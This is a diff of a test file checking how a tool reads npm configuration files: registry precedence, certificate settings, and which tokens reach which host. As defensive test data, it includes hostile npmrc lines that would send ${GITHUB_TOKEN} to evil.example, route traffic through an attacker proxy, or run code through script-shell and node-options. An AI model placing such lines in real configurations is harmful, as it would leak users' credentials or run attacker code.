@@ -1,11 +1,11 @@
 import { createHash } from 'node:crypto'
-import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { afterEach, beforeEach, describe, expect, test } from 'vitest'
 import { readSettings } from '../../src/platform/env.ts'
 import { npmSource } from '../../src/sources/npm.ts'
-import { npmConfig } from '../../src/sources/npm-config.ts'
+import { npmConfig, npmRegistry } from '../../src/sources/npm-config.ts'
 import { readSkill } from '../../src/sources/read-skill.ts'
 import type { NpmSpec, SourceIo, SourcePolicy } from '../../src/sources/source.ts'
 import { answer, startServer, type TestServer } from '../support/http-server.ts'
@@ -136,8 +136,23 @@ describe('npmSource', () => {
 })
 
 describe('npmConfig', () => {
-  test("takes registries and tokens from the user's npmrc, and nothing else", () => {
-    const npmrc = [
+  let home: string
+  let project: string
+  beforeEach(() => {
+    ;[home, project] = [join(root, 'home'), join(root, 'project')]
+    for (const folder of [home, project]) mkdirSync(folder)
+  })
+  const write = (folder: string, ...lines: readonly string[]): string => {
+    const file = join(folder, '.npmrc')
+    writeFileSync(file, lines.join('\n'))
+    return file
+  }
+  const read = (env: Record<string, string> = {}) =>
+    npmConfig({ home, env: { NPM_CONFIG_GLOBALCONFIG: join(root, 'none'), ...env } }, project)
+
+  test("takes registries and credentials from the user's npmrc, and nothing that runs", () => {
+    write(
+      home,
       '# comment',
       'registry=https://npm.example/',
       '@acme:registry = "https://acme.example/npm"',
@@ -145,14 +160,137 @@ describe('npmConfig', () => {
       '//npm.example/:_authToken=${MISSING}',
       'script-shell=/bin/evil',
       'node-options=--require=/tmp/x.js',
-    ]
-    writeFileSync(join(root, '.npmrc'), npmrc.join('\n'))
-    expect(npmConfig({ home: root, env: { ACME_TOKEN: 't' } })).toEqual({
+      'strict-ssl=false',
+    )
+    expect(read({ ACME_TOKEN: 't' }).options).toEqual({
       registry: 'https://npm.example/',
       '@acme:registry': 'https://acme.example/npm',
       '//acme.example/npm/:_authToken': 't',
       '//npm.example/:_authToken': '${MISSING}',
     })
-    expect(npmConfig({ home: undefined, env: {} })).toEqual({})
+    expect(npmConfig({ home: undefined, env: {} }, undefined).options).toEqual({})
+  })
+
+  test('the project counts more than the user, the user more than the machine, the environment most', () => {
+    const global = join(root, 'global')
+    writeFileSync(
+      global,
+      'registry=https://g.example/\n@g:registry=https://g.example/\n@u:registry=https://g.example/',
+    )
+    write(
+      home,
+      'registry=https://u.example/',
+      '@u:registry=https://u.example/',
+      '@p:registry=https://u.example/',
+    )
+    const file = write(
+      project,
+      'registry=https://p.example/',
+      '@p:registry=https://p.example/',
+      '@e:registry=https://p.example/',
+    )
+    const config = read({ npm_config_globalconfig: global, 'npm_config_@e:registry': 'https://e.example/' })
+    const at = (name: string) => npmRegistry(name, config)
+    expect(at('pkg')).toEqual({ url: 'https://p.example/', from: file })
+    expect(at('@g/pkg')).toEqual({ url: 'https://g.example/', from: global })
+    expect(at('@u/pkg')).toEqual({ url: 'https://u.example/', from: join(home, '.npmrc') })
+    expect(at('@p/pkg')).toEqual({ url: 'https://p.example/', from: file })
+    expect(at('@e/pkg')).toEqual({ url: 'https://e.example/', from: 'npm_config_@e:registry' })
+    const env = read({ NPM_CONFIG_REGISTRY: 'https://env.example/' })
+    expect(npmRegistry('pkg', env).url).toBe('https://env.example/')
+    expect(npmRegistry('pkg', npmConfig({ home: undefined, env: {} }, undefined)).from).toBeUndefined()
+  })
+
+  test("no variable, proxy or authority of the user's comes to where a project's npmrc points", () => {
+    write(
+      project,
+      '//evil.example/:_authToken=${GITHUB_TOKEN}',
+      '//evil.example/:username=${USER?}',
+      '//own.example/:_authToken=literal',
+      'cafile=/project/ca.pem',
+      'ca="-----BEGIN CERTIFICATE-----\\nx\\n-----END CERTIFICATE-----"',
+      'https-proxy=http://evil.example:3128',
+    )
+    const config = read({ GITHUB_TOKEN: 'secret', USER: 'me' })
+    expect(config.options).toEqual({ '//own.example/:_authToken': 'literal' })
+    expect(config.ca).toBeUndefined()
+    expect(config.withheld).toEqual(['//evil.example/:_authToken', '//evil.example/:username'])
+  })
+
+  test.each([
+    ['registry=https://evil.example/${GITHUB_TOKEN}/', 'is made of a variable'],
+    ['@acme:registry=https://${GITHUB_TOKEN}.evil.example/', 'is made of a variable'],
+  ])("refuses the project's line %s", async (line) => {
+    write(project, line)
+    await expect(() => read({ GITHUB_TOKEN: 'secret' })).toThrowCode('npm_registry_refused')
+  })
+
+  test.each(['http://npm.example/', 'file:///etc/', 'https://me:pw@npm.example/', 'nonsense'])(
+    'refuses to ask %s, and nothing else instead of it',
+    async (url) => {
+      write(project, `registry=${url}`)
+      await expect(() => npmRegistry('pkg', read())).toThrowCode('npm_registry_refused')
+    },
+  )
+
+  test('the authorities of cafile and ca take the place of the known ones', () => {
+    const pem = (text: string) => `-----BEGIN CERTIFICATE-----\n${text}\n-----END CERTIFICATE-----`
+    writeFileSync(join(home, 'ca.pem'), `${pem('aa')}\n${pem('bb')}\n`)
+    write(home, `ca[]="${pem('cc').replaceAll('\n', '\\n')}"`)
+    expect(read().ca).toEqual([pem('cc')])
+    write(home, 'cafile=~/ca.pem')
+    expect(read().ca).toEqual([pem('aa'), pem('bb')])
+    writeFileSync(join(home, 'extra.pem'), pem('ee'))
+    const extra = { NODE_EXTRA_CA_CERTS: join(home, 'extra.pem') }
+    expect(read(extra).ca).toEqual([pem('aa'), pem('bb'), pem('ee')])
+    expect(read({ ...extra, npm_config_cafile: join(home, 'missing') }).ca).toBeUndefined()
+  })
+})
+
+describe("a project's npmrc", () => {
+  const project = (...lines: readonly string[]): SourceIo => {
+    const folder = join(root, 'project')
+    mkdirSync(folder)
+    writeFileSync(join(folder, '.npmrc'), lines.join('\n'))
+    const settings = readSettings({ HOME: root, NPM_CONFIG_GLOBALCONFIG: join(root, 'none') }, folder)
+    return { ...io(), settings, root: folder }
+  }
+
+  test('names the registry that is asked, and no other is', async () => {
+    publish({ '1.0.0': '2026-01-01T00:00:00Z' })
+    const lines: string[] = []
+    const own = { ...project(`registry=${server.url('/')}`), report: (line: string) => lines.push(line) }
+    expect(await npmSource.resolve(spec(), own)).toMatchObject({
+      url: server.url('/skill-pdf/-/skill-pdf-1.0.0.tgz'),
+    })
+    expect(lines.join()).toContain(`${server.url('/')} (named by ${join(own.root, '.npmrc')})`)
+    const missing = npmSource.resolve({ kind: 'npm', name: 'nothing' }, own)
+    await expect(missing).rejects.toThrow(server.url('/'))
+  })
+
+  test("gets the user's token for that host alone", async () => {
+    publish({ '1.0.0': '2026-01-01T00:00:00Z' })
+    const { host } = new URL(server.url('/'))
+    writeFileSync(join(root, '.npmrc'), `//${host}/:_authToken=mine\n//other.example/:_authToken=theirs`)
+    await npmSource.resolve(spec(), project(`registry=${server.url('/')}`))
+    expect(server.log.at(-1)?.headers.authorization).toBe('Bearer mine')
+    writeFileSync(join(root, '.npmrc'), `//other.example/:_authToken=theirs`)
+    await npmSource.resolve(spec(), {
+      ...io(),
+      settings: readSettings({ HOME: root }, root),
+      root: join(root, 'project'),
+    })
+    expect(server.log.at(-1)?.headers.authorization).toBeUndefined()
+  })
+
+  test('a credential of a variable is not sent, and the refusal says where it belongs', async () => {
+    const { host } = new URL(server.url('/'))
+    server.route('/skill-pdf', answer(401, {}, '{}'))
+    const own = project(`registry=${server.url('/')}`, `//${host}/:_authToken=\${SECRET}`)
+    const settings = readSettings({ ...own.settings.env, SECRET: 's3cret' }, own.root)
+    const error = await npmSource.resolve(spec(), { ...own, settings }).catch((caught: unknown) => caught)
+    expect(error).toMatchObject({ code: 'source_unauthorized' })
+    expect((error as { hint: string }).hint).toContain('~/.npmrc')
+    expect(server.log.map(({ headers }) => headers.authorization)).toEqual([undefined])
   })
 })
